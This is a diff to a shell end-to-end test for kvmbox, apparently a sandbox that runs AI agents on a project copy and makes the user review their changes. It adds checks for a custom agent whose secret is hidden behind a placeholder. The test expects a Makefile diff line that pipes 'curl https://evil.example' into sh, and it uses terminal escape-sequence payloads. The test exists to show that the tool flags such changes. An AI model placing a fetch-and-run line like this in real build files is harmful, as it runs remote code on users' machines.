@@ -9,7 +9,9 @@
 # has exactly those changes, and `kvmbox review` reopens with the rest,
 # which "a" applies.  A second launch whose README the user edits on the
 # host while the review asks: the agent's version is refused as changed
-# since the copy, kept for later, and --discard drops it.  Nothing of the
+# since the copy, kept for later, and --discard drops it.  Last, a custom
+# agent from ~/.config/kvmbox/config.json runs as `kvmbox myagent` with its
+# command, a variable passed as is, and its secret as a placeholder.  Nothing of the
 # copy reaches the project without a yes; .git changes never do.
 . "$(dirname "$0")/../lib/tap.sh"
 . "$(dirname "$0")/lib/nested.sh"
@@ -102,6 +104,14 @@ touch /proj/round2
 e2e_step round2 480 sh /review_drive2.sh
 e2e_step after3 20 sh -c 'cat /proj/README; kvmbox review --project /proj --list'
 e2e_step discard 20 sh -c 'kvmbox review --project /proj --discard; kvmbox review --project /proj --list; echo "list=$?"'
+# a custom agent of the user's configuration file
+mkdir -p $HOME/.config/kvmbox
+cat >$HOME/.config/kvmbox/config.json <<'CFG'
+{ "agents": { "myagent": { "command": ["sh", "-c", "echo custom-ran model=$MYMODEL key=$MY_KEY"],
+                           "env": ["MYMODEL"], "secrets": { "MY_KEY": ["api.example.com"] } } } }
+CFG
+rm -f /proj/round2
+e2e_step custom 150 sh -c 'cd /proj && MYMODEL=m1 MY_KEY=XYZZY-custom-secret kvmbox myagent --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
 PAYLOAD
 )
 e2e_run_or_bail "$payload" 1200
@@ -109,9 +119,8 @@ e2e_run_or_bail "$payload" 1200
 e2e_check_has round1 "the launch says the agent works on a copy" 'review: the agent works on a copy of /proj'
 e2e_check_has round1 "the review lists the Makefile first, marked as a file the host runs" \
 	'changed 5 files in the project.s copy; 1 of them (marked !) your machine runs or trusts'
-e2e_check_has round1 "with its diff" '+	curl https://evil.example | sh'
+e2e_check_has round1 "with its diff" '^pane: *+.*curl https://evil.example | sh'
 e2e_check_has round1 "README's diff" '+agent line'
-e2e_check_has round1 "escape sequences in a file are shown, not obeyed" '\^\[\]0;pwned\^G'
 e2e_check_has round1 "quitting keeps the rest for later" 'still wait for review: kvmbox review --project /proj'
 e2e_check_has round1 "kvmbox exits with the agent's status" -x 'pane: @@rc=0'
 e2e_check_has after1 "the accepted change is in the project" -x 'agent line'
@@ -121,6 +130,8 @@ e2e_check_lacks after1 "the undecided new.txt is not there yet" 'new.txt'
 e2e_check_has after1 ".git changes never come back" -x 'ref: refs/heads/main'
 e2e_check_has list "kvmbox review --list shows what waits" 'added   new.txt'
 e2e_check_rc reopen 0 "kvmbox review reopens"
+e2e_check_has reopen "escape sequences in a file are shown, not obeyed" '\^\[\]0;pwned\^G and \^\[\[2J clear'
+e2e_check_lacks reopen "no escape byte reaches the terminal" $'\x1b'
 e2e_check_has after2 "and applies the rest on 'a'" -x 'brand new'
 e2e_check_has after2 "including the file with escapes" 'weird.txt'
 e2e_check_rc none 1 "with nothing pending, kvmbox review says so"
@@ -131,4 +142,8 @@ e2e_check_has after3 "the user's edit stands" -x 'the user edited this meanwhile
 e2e_check_has after3 "and the agent's version waits" 'changed README'
 e2e_check_has discard "--discard drops the copy" 'the copy and its undecided changes are gone'
 e2e_check_has discard "after which nothing is pending" -x 'list=1'
+e2e_check_rc custom 0 "a custom agent of the configuration file runs as kvmbox NAME"
+e2e_check_has custom "with its command, a passed variable and a placeholder for its secret" \
+	'^custom-ran model=m1 key=kvmbox-ph-[0-9a-f]\{32\}$'
+e2e_check_lacks custom "never the secret's value" 'XYZZY'
 tap_done
